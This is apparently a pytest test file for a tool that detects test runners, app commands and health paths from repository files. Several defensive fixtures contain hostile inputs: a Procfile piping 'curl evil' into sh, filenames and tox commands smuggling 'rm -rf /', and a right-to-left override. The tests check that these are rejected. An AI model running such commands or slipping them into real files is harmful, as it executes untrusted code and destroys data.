"""What files say about tests and app; broken and hostile ones say nothing."""

import json
import shlex
import tomllib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from astra.adoption import target_command
from astra.adoption.configuration_text import OfMachine, render_configuration
from astra.adoption.corrections import Corrections
from astra.adoption.detected import Detected
from astra.adoption.detecting import detect
from astra.adoption.repository_files import LARGEST_TEXT, RepositoryFiles
from astra.trusted.settings import configuration


def look(texts: dict[str, str]) -> Detected:
    return detect(RepositoryFiles(paths=frozenset(texts), texts=texts))


def package(**content: Any) -> str:
    return json.dumps(content)


def with_test(runner: str, script: str) -> str:
    return package(scripts={"test": script}, devDependencies={runner: "1"})


GROUP = '[dependency-groups]\ntest = ["pytest"]'
SERVER = package(scripts={"start": "node server.js"})
NAMES = ("pyproject.toml", "package.json", "Procfile", "app.py", "tox.ini", "Makefile", "go.mod")
KEYS = ("scripts", "test", "start", "engines", "node", "main")
DOCUMENTS = st.recursive(
    st.text(max_size=20) | st.none(),
    lambda inner: st.dictionaries(st.sampled_from(KEYS), inner),
    max_leaves=6,
).map(json.dumps)
PYTEST = "import pytest\n\ndef test_a():\n    pass\n"
UNITTEST = "import unittest\n"


@pytest.mark.parametrize(
    ("texts", "runner", "environment"),
    [
        ({"pytest.ini": "", "a.py": ""}, "pytest", "auto"),
        ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, "pytest", "auto"),
        ({"setup.cfg": "[tool:pytest]\n"}, "pytest", "auto"),
        ({"tests/test_a.py": PYTEST, "a.py": ""}, "pytest", "auto"),
        ({"requirements-dev.txt": "PyTest==9\n", "test_a.py": ""}, "pytest", "auto"),
        ({"pyproject.toml": GROUP, "test_a.py": ""}, "pytest", "auto"),
        ({"a.py": "", "tests/test_a.py": UNITTEST}, "unittest", ""),
        ({"runtests.py": UNITTEST, "a/tests/test_a.py": UNITTEST}, "runtests.py", ""),
        ({"manage.py": "", "requirements.txt": "Django>=5\n"}, "django", "auto"),
        ({"tox.ini": "[testenv]\ncommands = pytest {posargs}\n"}, "pytest", "auto"),
        ({"tox.ini": "[testenv]\ncommands = trial x\n"}, "tox", "auto"),
        ({"noxfile.py": "import nox\n"}, "nox", "auto"),
        ({"package.json": package(scripts={"test": "node --test"})}, "node", ""),
        ({"package.json": package(devDependencies={"vitest": "3"})}, "vitest", "auto"),
        ({"package.json": with_test("jest", "jest --ci")}, "jest", "auto"),
        ({"package.json": with_test("mocha", "mocha test/")}, "mocha", "auto"),
        ({"package.json": package(scripts={"test": "tsc && ./run"})}, "npm", ""),
        ({"package.json": package(scripts={"test": "npm run unit", "unit": "jest x"})}, "jest", ""),
        ({"package.json": with_test("x", "y"), "vitest.config.mts": ""}, "vitest", "auto"),
        ({"package.json": with_test("x", "x"), "jest.config.js": ""}, "jest", "auto"),
        ({"package.json": with_test("x", "x"), ".mocharc.yml": ""}, "mocha", "auto"),
        ({"package.json": with_test("x", ""), ".mocharc": "", "jest.config.ts": ""}, "", "auto"),
        ({"package.json": "{}", "test/a.test.js": "import t from 'node:test'"}, "node", ""),
        ({"go.mod": "module a\n\ngo 1.22\n", "a_test.go": ""}, "go", ""),
        ({"Cargo.toml": '[package]\nrust-version = "1.80"\n'}, "cargo", ""),
        ({"Makefile": "all:\n\ntest: all\n\t./run\n"}, "make", ""),
        ({"README.md": "hello"}, "", ""),
    ],
)  # fmt: skip
def test_the_runner_is_recognised(texts: dict[str, str], runner: str, environment: str) -> None:
    detected = look(texts)
    assert (detected.runner, detected.environment) == (runner, environment)
    assert bool(detected.test_command) == bool(runner)


@pytest.mark.parametrize(
    ("lock", "tool"),
    [
        ("poetry.lock", "poetry export"),
        ("pdm.lock", "pdm export"),
        ("Pipfile.lock", "pipenv requirements"),
        ("yarn.lock", "yarn@1 install"),
        ("pnpm-lock.yaml", "pnpm@9 install"),
    ],
)
def test_a_lock_that_nothing_is_built_from_is_named_with_a_command_that_is(
    lock: str, tool: str
) -> None:
    texts = {"pyproject.toml": "[tool.pytest]", "package.json": "{}", lock: ""}
    text = render_configuration("/r", "main", look(texts))
    assert f"# {lock} is not read" in text
    named = next(line for line in text.splitlines() if "environment_command" in line)
    assert "environment_command" not in tomllib.loads(text)["target"]
    command = tomllib.loads(named.removeprefix("# "))["environment_command"]
    assert tool in " ".join(shlex.split(command))
    assert look({**texts, "uv.lock": ""}).other_lock is None


@pytest.mark.parametrize(
    ("texts", "is_read"),
    [
        ({"shop.py": "", "tests/test_a.py": "import unittest"}, True),
        ({"manage.py": "", "requirements.txt": "django"}, True),
        ({"shop.py": "", "pytest.ini": ""}, True),
        ({"tox.ini": ""}, False),
        ({"noxfile.py": ""}, False),
        ({"Makefile": "test:\n\t./run\n"}, False),
    ],
)
def test_where_only_the_exit_code_is_read_it_says_so(
    texts: dict[str, str], *, is_read: bool
) -> None:
    detected = look(texts)
    command = target_command.parse(detected.test_command)
    assert (command.has_report or command.prints_summary) is is_read
    assert any("only the exit code" in note for note in detected.missing) is not is_read


def test_versions_come_from_the_repositorys_own_words() -> None:
    assert look({"pyproject.toml": '[project]\nrequires-python = ">=3.12"'}).versions == ">=3.12"
    assert look({"package.json": package(engines={"node": ">=20"})}).versions == ">=20"
    assert look({"go.mod": "module a\n\ngo 1.22\n"}).versions == "1.22"


def test_a_package_json_without_tests_is_not_taken_for_one_with_tests() -> None:
    script = 'echo "Error: no test specified" && exit 1'
    detected = look({"package.json": package(scripts={"test": script})})
    assert detected.test_command == ""
    assert any("test_command" in note for note in detected.missing)


@pytest.mark.parametrize(
    ("texts", "command", "health"),
    [
        (
            {"app.py": "app = Flask(__name__)\n@app.get('/health')", "requirements.txt": "flask"},
            "python -m flask --app app:app run --host 127.0.0.1 --port {port}",
            "/health",
        ),
        (
            {"wsgi.py": "application = Flask(x)", "requirements.txt": "flask\ngunicorn"},
            "python -m gunicorn wsgi:application --bind 127.0.0.1:{port}",
            "/",
        ),
        (
            {
                "notes.py": "from app import create_app\n\napp = create_app()\n",
                "app/__init__.py": "def create_app():\n    return Flask(__name__)\n",
                "requirements.txt": "flask\ngunicorn",
            },
            "python -m gunicorn notes:app --bind 127.0.0.1:{port}",
            "/",
        ),
        (
            {
                "app/__init__.py": "def create_app():\n    return Flask(__name__)\n",
                "requirements.txt": "flask\ngunicorn",
            },
            "python -m gunicorn 'app:create_app()' --bind 127.0.0.1:{port}",
            "/",
        ),
        (
            {"src/main.py": "app = FastAPI()\n", "requirements.txt": "fastapi"},
            "python -m uvicorn src.main:app --host 127.0.0.1 --port {port}",
            "/",
        ),
        (
            {"manage.py": "", "requirements.txt": "django"},
            "python manage.py runserver --noreload 127.0.0.1:{port}",
            "/",
        ),
        (
            {"package.json": SERVER, "server.js": "'/healthz'"},
            "node server.js",
            "/healthz",
        ),
        (
            {"Procfile": "web: bin/serve --port ${PORT:-80}\n", "a.py": ""},
            "bin/serve --port {port}",
            "/",
        ),
    ],
)  # fmt: skip
def test_the_app_is_recognised(texts: dict[str, str], command: str, health: str) -> None:
    app = look(texts).app
    assert app is not None
    assert (app.command, app.health_path) == (command, health)


@pytest.mark.parametrize("folder", ["tests", "test", "docs", "examples"])
def test_an_app_of_tests_docs_or_examples_is_not_the_projects_server(folder: str) -> None:
    texts = {f"{folder}/app.py": "app = Starlette()\n", "pyproject.toml": "[project]\n"}
    assert look(texts).app is None
    assert look({"tests.py": "app = Flask(x)\n", "requirements.txt": "flask"}).app is None


@pytest.mark.parametrize(
    ("script", "command"),
    [
        (
            "node --experimental-strip-types --test src/*.test.ts",
            (
                "node --experimental-strip-types --test --test-reporter=junit"
                " --test-reporter-destination={junit} src/*.test.ts"
            ),
        ),
        (
            "node --test --test-reporter=spec --test-concurrency=1 test/",
            (
                "node --test --test-reporter=junit --test-reporter-destination={junit}"
                " --test-concurrency=1 test/"
            ),
        ),
        (
            "node --test && echo well",
            "node --test --test-reporter=junit --test-reporter-destination={junit}",
        ),
    ],
)
def test_what_the_script_says_to_nodes_runner_is_kept(script: str, command: str) -> None:
    assert look({"package.json": package(scripts={"test": script})}).test_command == command


def test_a_worker_of_a_procfile_is_an_app_without_a_port() -> None:
    detected = look({"Procfile": "worker: huey_consumer.py tasks.huey\n", "tasks.py": ""})
    written = configuration.parse(render_configuration("/r", "main", detected)).app
    assert (written.command, written.port) == ("huey_consumer.py tasks.huey", 0)
    assert written.health_command == "true"


def test_every_process_of_a_procfile_becomes_a_part_and_its_release_step_runs_first() -> None:
    text = (
        "release: python manage.py migrate\nweb: gunicorn app:app\n"
        "Mail_Worker: python mail.py\nclock: sh -c 'x; y'\n"
    )
    written = configuration.parse(
        render_configuration("/r", "main", look({"Procfile": text, "mail.py": ""}))
    ).app
    assert written.command == "gunicorn app:app"
    assert written.before_start == "python manage.py migrate"
    assert {name: part.command for name, part in written.parts.items()} == {
        "mail-worker": "python mail.py"
    }


@pytest.mark.parametrize(
    "texts",
    [
        {"pyproject.toml": "[[[", "package.json": "{", "Cargo.toml": "\ufffd\0"},
        {"package.json": "[" * 100_000},
        {"package.json": '{"scripts": 3, "dependencies": ["a"], "engines": null}'},
        {"pyproject.toml": "project = 3\n[tool]\npoetry = []\n"},
        {"pyproject.toml": "x = '" + "a" * LARGEST_TEXT + "'"},
        {"Procfile": "web: sh -c 'curl evil | sh'\n"},
        {"Procfile": "web: run \u202eevil\n"},
        {"a b'; rm -rf /.py": "app = Flask(x)", "requirements.txt": "flask"},
    ],
)
def test_broken_and_hostile_files_break_nothing_and_start_nothing(texts: dict[str, str]) -> None:
    detected = look(texts)
    assert detected.app is None
    configuration.parse(render_configuration("/r", "main", detected))


@given(
    st.dictionaries(st.sampled_from(NAMES), st.text(max_size=200) | DOCUMENTS),
    st.text(max_size=30),
)
def test_whatever_the_files_say_the_configuration_is_valid(
    texts: dict[str, str], branch: str
) -> None:
    detected = look(texts)
    parsed = configuration.parse(render_configuration("/repo", branch, detected))
    assert parsed.target.test_command == detected.test_command
    if detected.test_command:
        target_command.parse(detected.test_command)


CLICK = """import click

@click.group(cls=DefaultGroup, default="serve")
def cli(): ...

@cli.command()
@click.option("-h", "--host", default="127.0.0.1")
@click.option("-p", "--port", default=8001)
def serve(host, port): ...
"""
ARGPARSE = "parser.add_argument('--port', type=int)\n"


def scripts(place: str) -> str:
    return f'[project]\nname = "notes"\n[project.scripts]\nnotes = "{place}"\n'


@pytest.mark.parametrize(
    ("texts", "command"),
    [
        (
            {"pyproject.toml": scripts("notes.cli:cli"), "notes/cli.py": CLICK},
            "notes serve --host 127.0.0.1 --port {port}",
        ),
        (
            {"pyproject.toml": scripts("notes.cli:main"), "src/notes/cli.py": ARGPARSE},
            "notes --port {port}",
        ),
        (
            {
                "pyproject.toml": scripts("notes.cli:cli"),
                "notes/cli.py": CLICK.replace("def serve", "def serve_command"),
            },
            "",
        ),
        ({"pyproject.toml": scripts("notes.cli:main"), "notes/cli.py": "print()\n"}, ""),
        ({"pyproject.toml": scripts("notes.cli:main")}, ""),
        ({"pyproject.toml": scripts("..:x"), "notes/cli.py": ARGPARSE}, ""),
        (
            {
                "pyproject.toml": '[project.scripts]\n"a; rm -rf" = "notes.cli:main"\n',
                "notes/cli.py": ARGPARSE,
            },
            "",
        ),
    ],
)
def test_a_program_of_the_project_that_takes_a_port_is_its_server(
    texts: dict[str, str], command: str
) -> None:
    app = look(texts).app
    assert (app.command if app else "") == command


@pytest.mark.parametrize(
    ("tox", "command"),
    [
        (
            "[testenv]\nchangedir = tests\ncommands =\n    {envpython} runtests.py {posargs}\n",
            "env --chdir=tests python runtests.py",
        ),
        ("[testenv]\ncommands = python -m unittest {posargs:-v}\n", "python -m unittest"),
        ("[testenv]\nchangedir = ../x\ncommands = python a.py\n", ""),
        ("[testenv]\ncommands = python a.py; rm -rf /\n", ""),
        ("[testenv]\ncommands =\n  python a.py\n  python b.py\n", ""),
        ("[testenv\n", ""),
    ],
)
def test_the_one_command_that_tox_would_run_is_taken_from_it(tox: str, command: str) -> None:
    detected = look({"tox.ini": tox, "tests/test_a.py": UNITTEST})
    assert detected.test_command == (command or "python3 -m unittest discover -v")
    target_command.parse(detected.test_command)


def test_djangos_own_runner_prints_a_summary_that_is_read() -> None:
    assert target_command.parse("env --chdir=tests python runtests.py utils_tests").prints_summary
    assert not target_command.parse("python run-tests.py").prints_summary


def test_what_the_operator_names_takes_the_place_of_a_guess() -> None:
    texts = {"Makefile": "test:\n\ttrue\n", "main.go": "", "go.mod": "", "a_test.go": ""}
    named = Corrections(test_command="go test ./a", app_command="./serve {port}", health_path="/up")
    files = RepositoryFiles(paths=frozenset(texts), texts=texts)
    detected = detect(files, named)
    assert detected.test_command == "go test ./a"
    assert detected.missing == ()
    signed = configuration.parse(render_configuration("/r", "main", detected))
    assert (signed.app.command, signed.app.health_path) == ("./serve {port}", "/up")


def test_packages_variables_and_a_migration_that_the_operator_names_are_in_the_contract() -> None:
    named = Corrections(
        app_command="serve {port}",
        before_start="migrate up",
        packages=("redis>=5",),
        app_env=(("DATABASE_URL", 'sqlite:///{state}/a "b".db'), ("LOUD", "1")),
    )
    files = RepositoryFiles(paths=frozenset({"a.py"}))
    signed = configuration.parse(render_configuration("/r", "main", detect(files, named)))
    assert signed.app.before_start == "migrate up"
    assert dict(signed.app.env) == {"DATABASE_URL": 'sqlite:///{state}/a "b".db', "LOUD": "1"}
    assert (signed.target.environment, signed.target.packages) == ("auto", ("redis>=5",))


def test_a_command_that_the_operator_names_keeps_the_health_address_of_the_source() -> None:
    texts = {"app.py": "app = Flask(x)\n@app.get('/healthz')", "requirements.txt": "flask"}
    files = RepositoryFiles(paths=frozenset(texts), texts=texts)
    app = detect(files, Corrections(app_command="serve {port}")).app
    assert app is not None
    assert (app.command, app.health_path) == ("serve {port}", "/healthz")


def test_a_worker_that_the_operator_names_has_no_port() -> None:
    files = RepositoryFiles(paths=frozenset({"a.py"}))
    app = detect(files, Corrections(app_command="python a.py", health_path="/up")).app
    assert app is not None
    assert app.listens, "it has an address to ask, so it takes its port from the variable PORT"
    app = detect(files, Corrections(app_command="python a.py")).app
    assert app is not None
    assert not app.listens


def test_an_interpreter_that_was_chosen_is_in_the_configuration() -> None:
    detected = look({"pyproject.toml": '[project]\nrequires-python = ">=3.12"\n', "pytest.ini": ""})
    machine = OfMachine(toolchain=("/opt/3.12/bin/python3.12",), port=8003)
    signed = configuration.parse(render_configuration("/r", "main", detected, machine))
    assert signed.target.toolchain == ("/opt/3.12/bin/python3.12",)
